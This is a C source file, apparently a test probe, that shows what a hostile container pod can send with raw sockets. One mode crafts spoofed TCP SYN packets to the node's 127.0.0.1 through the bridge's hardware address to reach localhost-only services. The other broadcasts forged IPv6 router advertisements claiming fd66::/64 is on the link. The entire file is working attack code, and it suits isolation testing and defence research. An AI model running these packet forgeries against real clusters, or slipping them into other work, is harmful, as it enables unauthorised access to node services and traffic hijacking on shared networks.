/* What a hostile pod sends by raw sockets, with the default capabilities only.
   attack loopback PORT   asks 127.0.0.1:PORT of the node for a connection, by the bridge's hardware address
   attack router          says that it is a router and that fd66::/64 is on this link */
#include <arpa/inet.h>
#include <ifaddrs.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

static uint32_t add(uint32_t sum, const void *data, size_t length) {
    const uint8_t *at = data;
    for (size_t i = 0; i < length; i += 2) sum += (uint32_t)at[i] << 8 | (i + 1 < length ? at[i + 1] : 0);
    return sum;
}

static uint16_t fold(uint32_t sum) {
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static int loopback(int port) {
    struct ifaddrs *all;
    uint32_t own = 0;
    if (getifaddrs(&all)) return 2;
    for (struct ifaddrs *one = all; one; one = one->ifa_next)
        if (one->ifa_addr && one->ifa_addr->sa_family == AF_INET && !strcmp(one->ifa_name, "eth0"))
            own = ((struct sockaddr_in *)one->ifa_addr)->sin_addr.s_addr;
    /* The gateway is the first address of a /24; its hardware address carries it. */
    uint8_t bridge[6] = {0x0a, 0x58};
    memcpy(bridge + 2, &own, 4);
    bridge[5] = 1;
    /* The node must know where the pod is before it has to ask as 127.0.0.1. */
    struct sockaddr_in gateway = {.sin_family = AF_INET, .sin_port = htons(9)};
    memcpy(&gateway.sin_addr, bridge + 2, 4);
    sendto(socket(AF_INET, SOCK_DGRAM, 0), "", 1, 0, (struct sockaddr *)&gateway, sizeof gateway);
    usleep(100000);
    int raw = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    struct timeval wait = {0, 200000};
    setsockopt(raw, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6,
                             .sll_ifindex = (int)if_nametoindex("eth0")};
    memcpy(to.sll_addr, bridge, 6);
    struct { struct iphdr ip; struct tcphdr tcp; } packet;
    for (int round = 0; round < 3; round++) {
        memset(&packet, 0, sizeof packet);
        packet.ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .saddr = own,
                                   .daddr = htonl(INADDR_LOOPBACK), .tot_len = htons(sizeof packet)};
        packet.ip.check = fold(add(0, &packet.ip, sizeof packet.ip));
        packet.tcp = (struct tcphdr){.source = htons((uint16_t)(40000 + getpid() % 20000)), .dest = htons((uint16_t)port),
                                     .seq = htonl(1), .doff = 5, .syn = 1, .window = htons(1000)};
        packet.tcp.check = fold(add(add(IPPROTO_TCP + sizeof packet.tcp, &packet.ip.saddr, 8), &packet.tcp, sizeof packet.tcp));
        if (sendto(raw, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) < 0) return perror("send"), 2;
        for (int i = 0; i < 10; i++) {
            uint8_t seen[1600];
            ssize_t length = recv(raw, seen, sizeof seen, 0);
            struct iphdr *ip = (struct iphdr *)seen;
            if (length >= (ssize_t)sizeof packet && ip->protocol == IPPROTO_TCP && ip->saddr == htonl(INADDR_LOOPBACK))
                return puts("answered"), 0;
            if (length < 0) break;
        }
    }
    return puts("silence"), 0;
}

static int router(void) {
    uint8_t packet[48] = {ND_ROUTER_ADVERT, 0, 0, 0, 64, 0, 7, 8, [16] = 3, 4, 64, 0xc0, 0, 1, 0, 0, 0, 1, [32] = 0xfd, 0x66};
    int raw = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6), hops = 255, sent = 0;
    setsockopt(raw, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
    struct sockaddr_in6 all = {.sin6_family = AF_INET6, .sin6_scope_id = if_nametoindex("eth0")};
    inet_pton(AF_INET6, "ff02::1", &all.sin6_addr);
    for (int round = 0; round < 50 && sent < 5; round++, usleep(100000))
        sent += sendto(raw, packet, sizeof packet, 0, (struct sockaddr *)&all, sizeof all) > 0;
    printf("sent %d\n", sent);
    return sent ? 0 : 2;
}

int main(int count, char **words) {
    if (count == 3 && !strcmp(words[1], "loopback")) return loopback(atoi(words[2]));
    return count == 2 && !strcmp(words[1], "router") ? router() : 2;
}
